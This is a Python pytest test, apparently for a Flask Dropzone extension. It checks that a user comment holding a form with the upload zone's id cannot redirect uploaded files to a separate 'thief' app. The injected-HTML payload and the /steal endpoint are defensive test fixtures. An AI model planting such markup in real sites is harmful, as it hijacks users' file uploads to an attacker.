"""An element of the page's content with the zone's id does not take the zone over."""

from __future__ import annotations

import pytest
from flask import Flask, render_template_string, request

HOSTILE = (
    '<div class="comment"><form id="myDropzone" action="{steal}"><p>nice post</p></form></div>'
)
ZONE = "{{ dropzone.create(action='upload') }}"
CONFIG = "{{ dropzone.load_js() }}{{ dropzone.config() }}"

DROP_ON_MARKED = """
(name) => {
  const zone = document.querySelector("[data-flask-dropzone]");
  const transfer = new DataTransfer();
  transfer.items.add(new File([new Uint8Array([104, 105])], name, { type: "text/plain" }));
  for (const type of ["dragenter", "dragover", "drop"]) {
    zone.dispatchEvent(new DragEvent(type, { dataTransfer: transfer, bubbles: true, cancelable: true }));
  }
}
"""


@pytest.fixture
def apps(make_app):
    """``apps(received, stolen)``: the zone's app, and a thief's on another origin."""
    return lambda received, stolen: (zone_app(make_app(), received), thief_app(stolen))


def thief_app(stolen: list) -> Flask:
    thief = Flask("thief")  # no extension, nothing stored: a plain app

    @thief.route("/steal", methods=["GET", "POST", "OPTIONS"])
    def steal():
        stolen.append(request.method)
        return "", 200, {"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"}

    return thief


def zone_app(app: Flask, received: list) -> Flask:

    @app.post("/upload")
    def upload():
        received.extend(f.filename for f in app.extensions["dropzone"].files())
        return ""

    return app


@pytest.mark.parametrize("order", ["config after the zone", "config before the zone"])
def test_the_zone_posts_where_create_said_whatever_else_has_its_id(page, serve, order, apps):
    received, stolen = [], []
    app, thief = apps(received, stolen)
    thief_server = serve(thief)
    body = ZONE + CONFIG if order == "config after the zone" else CONFIG + ZONE
    page_html = (
        "<!doctype html><html><head>{{ dropzone.load_css() }}</head><body>"
        + HOSTILE
        + body
        + "</body></html>"
    )

    @app.get("/")
    def index():
        return render_template_string(page_html.replace("{steal}", thief_server.url + "/steal"))

    server = serve(app)
    page.goto(server.url + "/")
    page.wait_for_function("() => !!document.querySelector('[data-flask-dropzone]').dropzone")
    assert page.evaluate("() => !!document.querySelector('.comment form').dropzone") is False
    page.evaluate(DROP_ON_MARKED, "hi.txt")
    page.wait_for_function(
        "() => document.querySelector('[data-flask-dropzone]').dropzone.getUploadingFiles().length === 0"
        " && document.querySelector('[data-flask-dropzone]').dropzone.files.length === 1"
    )
    assert received == ["hi.txt"] and stolen == []
